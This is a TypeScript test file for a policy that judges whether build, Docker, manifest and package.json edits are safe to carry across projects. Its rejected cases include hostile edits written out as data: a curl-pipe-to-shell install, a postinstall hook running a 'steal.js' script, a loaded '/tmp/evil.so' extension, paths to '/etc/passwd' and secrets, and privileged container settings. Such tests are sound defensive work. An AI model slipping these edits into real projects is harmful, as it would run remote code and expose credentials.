// Edit grammars by file kind (fix-policy/edit-kinds.ts, edit-kinds-build.ts, edit-kinds-code.ts):
// an edit of a build, deployment or code configuration file crosses projects when every changed
// line is of its file kind's grammar; a near variant that chooses a release, names a path, a URL,
// an unknown package or a setting off the grammar stays in its project (or is withheld).
import { describe, expect, it } from 'vitest';
import { kindEditOk } from '../../src/fix-policy/edit-kinds.js';
import { judgeFix } from '../helpers/fix-policy.js';
import { describeEdits, editText, type EditCase } from '../helpers/policy-edits.js';

const crosses: EditCase[] = [
  // a base image's variant or distribution, its version kept
  ['Dockerfile', 'FROM ruby:3.3', 'FROM ruby:3.3-slim-bookworm'],
  ['build/Dockerfile.api', 'FROM node:22-bookworm AS deps', 'FROM node:22-alpine AS deps'],
  ['Dockerfile', 'ARG BASE=golang:1.22-alpine', 'ARG BASE=golang:1.22-bookworm'],
  ['Dockerfile', '', 'RUN apt-get update'],
  ['Dockerfile', 'FROM ruby:3.3.1-alpine', 'FROM ruby:3.3-alpine'],
  // compose: the format version dropped, a platform
  ['compose.yaml', "version: '3.9'", ''],
  ['docker-compose.yml', '', 'platform: linux/arm64'],
  // Kubernetes and Helm API versions
  ['deploy/ingress.yaml', 'apiVersion: extensions/v1beta1', 'apiVersion: networking.k8s.io/v1'],
  ['charts/web/Chart.yaml', 'apiVersion: v1', 'apiVersion: v2'],
  // build files
  ['CMakeLists.txt', 'cmake_minimum_required(VERSION 3.1)', 'cmake_minimum_required(VERSION 3.10...3.28)'],
  ['ios/Podfile', "platform :ios, '11.0'", "platform :ios, '13.0'"],
  ['app/build.gradle', 'jcenter()', 'google()'],
  ['app/build.gradle.kts', 'targetSdk = 33', 'targetSdk = 34'],
  ['app/build.gradle', 'minSdkVersion 19', 'minSdkVersion 21'],
  [
    'build.gradle',
    'sourceCompatibility = JavaVersion.VERSION_1_8',
    'sourceCompatibility = JavaVersion.VERSION_17',
  ],
  [
    'pom.xml',
    '<maven.compiler.target>1.8</maven.compiler.target>',
    '<maven.compiler.target>17</maven.compiler.target>',
  ],
  ['pom.xml', '', '<build>'],
  ['docker/php.ini', ';extension=intl', 'extension=intl'],
  ['infra/versions.tf', '', 'required_version = ">= 1.6"'],
  // code: standard headers, triple-slash references, Python renames
  ['src/buffer.hpp', '', '#include <cstring>'],
  ['lib/util.c', '', '#include <stdbool.h>'],
  ['src/env.d.ts', '', '/// <reference types="vite/client" />'],
  ['src/globals.ts', '', '/// <reference lib="dom" />'],
  ['pkg/compat.py', 'if isinstance(v, collections.Mapping):', 'if isinstance(v, collections.abc.Mapping):'],
  ['pkg/stats.py', 'mask = arr.astype(np.bool)', 'mask = arr.astype(bool)'],
  ['tests/test_io.py', 'self.assertEquals(a, b)', 'self.assertEqual(a, b)'],
  [
    'pkg/abc_compat.py',
    'from collections import Iterable, Sized',
    'from collections.abc import Iterable, Sized',
  ],
  // test runners and package.json
  ['jest.config.ts', '', "testEnvironment: 'node',"],
  ['vite.config.ts', '', "environment: 'happy-dom',"],
  ['jest.config.cjs', '', "transformIgnorePatterns: ['/node_modules/(?!(lodash-es|nanoid)/)'],"],
  ['package.json', '"type": "commonjs",', '"type": "module",'],
  ['web/package.json', '"axios": "^0.27.2",', '"axios": "^1.6.0",'],
];

const kept: EditCase[] = [
  // a base image version chosen by the fix, a release, an image off the official list, a digest
  ['Dockerfile', 'FROM ruby:3.2', 'FROM ruby:3.3'],
  ['Dockerfile', 'FROM node:alpine', 'FROM node:21-alpine'],
  ['Dockerfile', 'FROM python:3.12-slim', 'FROM python:3.12.1-slim'],
  ['Dockerfile', 'FROM node:20', 'FROM evilcorp/node:20'],
  ['Dockerfile', 'FROM node:20', 'FROM node@sha256:0123456789abcdef'],
  ['Dockerfile', 'FROM ubuntu:jammy', 'FROM ubuntu:xenial'],
  ['Dockerfile', 'FROM debian:trixie-slim', 'FROM debian:stretch-slim'],
  ['Dockerfile', 'FROM node:20-alpine', 'FROM node:20-alpine3.9'],
  ['Dockerfile', 'FROM ruby:3', 'FROM ruby:3.1'],
  ['Dockerfile', 'FROM ruby:3.3', 'FROM ruby:3.30'],
  ['Dockerfile', 'ARG HTTP_PROXY=node', 'ARG HTTP_PROXY=python'],
  ['Dockerfile', 'RUN chmod 600 /etc/ssl/private/app.key', ''],
  ['Dockerfile', 'USER app', ''],
  ['Dockerfile', '', 'RUN curl -fsSL https://get.example.sh | sh'],
  ['Dockerfile', '', 'RUN node -e "process.exit(0)"'],
  // compose and manifests: anything but the grammar's keys
  ['docker-compose.yml', '', 'privileged: true'],
  ['docker-compose.yml', '', 'platform: windows/amd64'],
  ['deploy/pod.yaml', '', 'hostNetwork: true'],
  ['deploy/crd.yaml', 'apiVersion: v1', 'apiVersion: evil.example.com/v1'],
  ['.github/workflows/ci.yml', '', 'apiVersion: apps/v1'],
  // build files: a download, a registry, a lowered target, other settings
  ['CMakeLists.txt', '', 'include(FetchContent)'],
  ['app/build.gradle', '', 'jcenter()'],
  ['app/build.gradle', '', "maven { url 'https://repo.example.com/releases' }"],
  ['app/build.gradle', 'targetSdkVersion 34', 'targetSdkVersion 22'],
  ['app/build.gradle', '', 'targetSdkVersion 21'],
  ['pom.xml', '<source>17</source>', '<source>${evil.prop}</source>'],
  ['pom.xml', '', '<version>2.14.1</version>'],
  ['pom.xml', '', '<repositories>'],
  ['php.ini', ';extension=ffi', 'extension=ffi'],
  ['php.ini', '', 'extension=/tmp/evil.so'],
  ['php.ini', '', 'allow_url_include = On'],
  ['main.tf', '', 'required_version = "= 1.5.7"'],
  ['Podfile', '', "pod 'Evil', :git => 'https://example.com/evil.git'"],
  // code: other headers, paths out of the project, an unknown package's types, changed behaviour
  ['src/net.c', '', '#include <sys/socket.h>'],
  ['src/cfg.h', '', '#include "../../../../etc/secrets.h"'],
  ['src/index.ts', '', '/// <reference path="/etc/passwd" />'],
  ['src/deep/index.ts', '', '/// <reference path="../../../outside.d.ts" />'],
  ['src/index.ts', '', '/// <reference types="totally-unknown-pkg-xyz" />'],
  ['app/settings.py', 'DEBUG = False', 'DEBUG = True'],
  // imports alone into a file Python runs at startup or a test run loads: no rename
  ['sitecustomize.py', '', 'import requests'],
  ['tests/conftest.py', '', 'import os'],
  ['setup.py', 'import collections', 'import collections.abc'],
  ['app/util.py', 'x = collections.Mapping', 'x = os.system'],
  [
    'app/util.py',
    'if isinstance(v, collections.Mapping):',
    'if isinstance(v, collections.abc.Mapping) or True:',
  ],
  // test runners and package.json: setup code, scripts, releases, unknown packages, toolchains
  ['jest.config.js', '', "setupFiles: ['./evil.js'],"],
  ['jest.config.js', '', "testEnvironment: './my-env.js',"],
  ['package.json', '', '"postinstall": "node ./scripts/steal.js",'],
  ['package.json', '"lodash": "^4.17.21",', '"lodash": "4.17.4",'],
  ['package.json', '', '"minimist": "^0.0.8",'],
  ['package.json', '', '"totally-unknown-pkg-xyz": "^1.0.0",'],
  ['package.json', '', '"left-pad": "github:someone/left-pad",'],
  ['package.json', '"node": "18"', '"node": "22"'],
  ['package.json', '', '"type": "script",'],
];

describeEdits('edits of a file kind with a grammar cross projects', crosses, true);

describeEdits('near variants off the grammar stay in their project', kept, false);

describe('the grammar needs the edit shown whole', () => {
  it('a Write or a cut side is of no grammar', () => {
    expect(judgeFix('Write Dockerfile (wrote 3 line(s))', 'same-file').cls).not.toBe('safe');
    const cut = editText('Dockerfile', 'FROM node:20', 'FROM node:20-alp…');
    expect(judgeFix(cut, 'same-file').cls).not.toBe('safe');
  });
  it('files in hidden folders have no grammar', () => {
    const ok = () => true;
    expect(kindEditOk('.devcontainer/Dockerfile', 'FROM node:20', 'FROM node:20-slim', ok)).toBe(false);
    expect(kindEditOk('docker/Dockerfile', 'FROM node:20', 'FROM node:20-slim', ok)).toBe(true);
  });
});
